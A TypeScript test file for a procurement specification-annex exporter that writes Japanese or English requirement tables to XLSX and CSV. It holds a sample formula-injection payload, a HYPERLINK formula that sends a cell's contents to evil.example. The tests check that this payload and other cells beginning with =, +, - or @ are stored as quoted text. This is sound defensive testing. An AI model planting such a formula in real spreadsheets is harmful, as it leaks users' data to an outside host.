import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import * as Papa from 'papaparse';
import type { Requirement } from '../domain/model';
import { buildSpecAnnexCsv, buildSpecAnnexXlsx, specAnnexRows, type SpecAnnexInput } from './spec-annex';

const HASH = 'a3f1c2'.padEnd(64, '0');
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';

function requirement(overrides: Partial<Requirement>): Requirement {
  return {
    id: 'r',
    procurementId: 'p',
    order: 0,
    ref: 'R-001',
    domain: '9 アクセス制御',
    title: '利用者認証',
    text: '多要素認証を提供すること。',
    kind: 'mandatory',
    basePoints: 10,
    points: 0,
    appliesTo: 'csp',
    acceptedAttestations: ['ismap', 'soc2Type2'],
    controlRefs: ['iso27002:9.4.2', 'tsc:CC6.1'],
    sourceRef: null,
    ...overrides
  };
}

const input: SpecAnnexInput = {
  procurementTitle: '文書管理SaaSの調達（令和9年度）',
  organisation: '架空省 情報システム課',
  criteria: { version: 2, hash: HASH, lockedAt: '2025-04-01T01:30:00.000Z' },
  locale: 'ja',
  requirements: [
    requirement({
      id: 'r2',
      order: 1,
      ref: 'R-002',
      domain: '12 運用',
      title: HOSTILE,
      text: 'ログを1年以上保管し、利用者が取得できること。\n形式は問わない。',
      kind: 'scored',
      basePoints: 0,
      points: 5,
      appliesTo: 'both',
      acceptedAttestations: [],
      controlRefs: ['iso27002:12.4.1']
    }),
    requirement({ id: 'r1', order: 0 })
  ]
};

const JA_HEADER = [
  '番号',
  '分野',
  '要件名',
  '要件の内容',
  '区分',
  '配点',
  '対象',
  '受け入れる証跡',
  '対応する管理策'
];
const MANDATORY_ROW = [
  'R-001',
  '9 アクセス制御',
  '利用者認証',
  '多要素認証を提供すること。',
  '必須',
  10,
  '事業者',
  'ISMAP、SOC 2 Type II',
  'iso27002:9.4.2、tsc:CC6.1'
];
const SCORED_ROW = [
  'R-002',
  '12 運用',
  `'${HOSTILE}`,
  'ログを1年以上保管し、利用者が取得できること。\n形式は問わない。',
  '任意',
  5,
  '双方',
  '',
  'iso27002:12.4.1'
];

function readSheet(bytes: Uint8Array) {
  const book = XLSX.read(bytes, { type: 'array', cellFormula: true, cellStyles: true });
  const name = book.SheetNames[0] ?? '';
  const sheet = book.Sheets[name];
  if (!sheet) throw new Error('no sheet');
  const rows = XLSX.utils.sheet_to_json<(string | number)[]>(sheet, {
    header: 1,
    blankrows: true,
    defval: ''
  });
  return { book, name, sheet, rows };
}

describe('specAnnexRows', () => {
  it('gives the Japanese header and rows in specification order, points as numbers', () => {
    expect(specAnnexRows(input)).toEqual([JA_HEADER, MANDATORY_ROW, SCORED_ROW]);
  });

  it('switches headers and labels to English', () => {
    const rows = specAnnexRows({ ...input, locale: 'en' });
    expect(rows[0]).toEqual([
      'No.',
      'Domain',
      'Title',
      'Requirement',
      'Kind',
      'Points',
      'Applies to',
      'Accepted evidence',
      'Mapped controls'
    ]);
    expect(rows[1]?.slice(4)).toEqual([
      'Mandatory',
      10,
      'Provider',
      'ISMAP; SOC 2 Type II',
      'iso27002:9.4.2; tsc:CC6.1'
    ]);
    expect(rows[2]?.[4]).toBe('Scored');
    expect(rows[2]?.[6]).toBe('Both');
  });

  it.each([
    ['ref', { ref: '-1' }, 0, "'-1"],
    ['domain', { domain: '@domain' }, 1, "'@domain"],
    ['text', { text: '＝1+1' }, 3, "'＝1+1"],
    ['control refs', { controlRefs: ['+x', 'y'] }, 8, "'+x、y"]
  ])('guards the %s cell', (_name, overrides, column, expected) => {
    const rows = specAnnexRows({ ...input, requirements: [requirement(overrides)] });
    expect(rows[1]?.[column]).toBe(expected);
  });
});

describe('buildSpecAnnexXlsx', () => {
  it('writes the title block, a blank row, then the table on the 要件一覧 sheet', () => {
    const { name, rows } = readSheet(buildSpecAnnexXlsx(input));
    expect(name).toBe('要件一覧');
    expect(rows[0]?.slice(0, 2)).toEqual(['件名', '文書管理SaaSの調達（令和9年度）']);
    expect(rows[1]?.slice(0, 2)).toEqual(['調達機関', '架空省 情報システム課']);
    expect(rows[2]?.slice(0, 6)).toEqual([
      '評価基準',
      '第2版',
      '確定日時',
      '2025-04-01 10:30:00 JST',
      'SHA-256',
      HASH
    ]);
    expect(rows[3]?.every((cell) => cell === '')).toBe(true);
    expect(rows[4]).toEqual(JA_HEADER);
    expect(rows[5]).toEqual(MANDATORY_ROW);
    expect(rows[6]).toEqual(SCORED_ROW);
    expect(rows).toHaveLength(7);
  });

  it('stores the hostile title as quoted text, never as a formula', () => {
    const { sheet } = readSheet(buildSpecAnnexXlsx(input));
    expect(sheet['C7']).toMatchObject({ t: 's', v: `'${HOSTILE}` });
    expect(sheet['F7']).toMatchObject({ t: 'n', v: 5 });
    const cells = Object.entries(sheet).filter(([key]) => !key.startsWith('!'));
    expect(cells.length).toBeGreaterThan(0);
    for (const [, cell] of cells) expect(cell).not.toHaveProperty('f');
  });

  it('sets an autofilter over the table and column widths', () => {
    const { sheet } = readSheet(buildSpecAnnexXlsx(input));
    expect(sheet['!autofilter']).toEqual({ ref: 'A5:I7' });
    expect(sheet['!cols']).toHaveLength(9);
  });

  it('says 未確定 when no criteria version is locked, and uses English names in English', () => {
    expect(readSheet(buildSpecAnnexXlsx({ ...input, criteria: null })).rows[2]?.slice(0, 2)).toEqual([
      '評価基準',
      '未確定'
    ]);
    const english = readSheet(buildSpecAnnexXlsx({ ...input, criteria: null, locale: 'en' }));
    expect(english.name).toBe('Requirements');
    expect(english.rows[2]?.slice(0, 2)).toEqual(['Evaluation criteria', 'Not locked']);
  });

  it('shortens a text Excel could not hold instead of failing', () => {
    const long = 'あ'.repeat(40_000);
    const { sheet } = readSheet(
      buildSpecAnnexXlsx({ ...input, requirements: [requirement({ text: long })] })
    );
    expect(String(sheet['D6']?.v)).toHaveLength(32_767);
  });
});

describe('buildSpecAnnexCsv', () => {
  const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

  it('writes UTF-8 with a BOM, CRLF line ends and only the table', async () => {
    const bytes = await buildSpecAnnexCsv(input, 'utf-8-bom');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8').decode(bytes);
    expect(text.startsWith('番号,分野,')).toBe(true);
    expect(text.split('\r\n')[1]).toBe(
      'R-001,9 アクセス制御,利用者認証,多要素認証を提供すること。,必須,10,事業者,ISMAP、SOC 2 Type II,iso27002:9.4.2、tsc:CC6.1'
    );
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parse(text)).toEqual([JA_HEADER, MANDATORY_ROW.map(String), SCORED_ROW.map(String)]);
  });

  it('quotes the hostile cell once, with its leading quote, and keeps points unquoted', async () => {
    const text = new TextDecoder('utf-8').decode(await buildSpecAnnexCsv(input));
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")",`);
    expect(text).toContain(',任意,5,双方,');
  });

  it('writes Shift_JIS without a BOM on request', async () => {
    const bytes = await buildSpecAnnexCsv(input, 'shift_jis');
    expect([...bytes.slice(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
    const text = new TextDecoder('shift_jis').decode(bytes);
    expect(parse(text)).toEqual([JA_HEADER, MANDATORY_ROW.map(String), SCORED_ROW.map(String)]);
  });
});
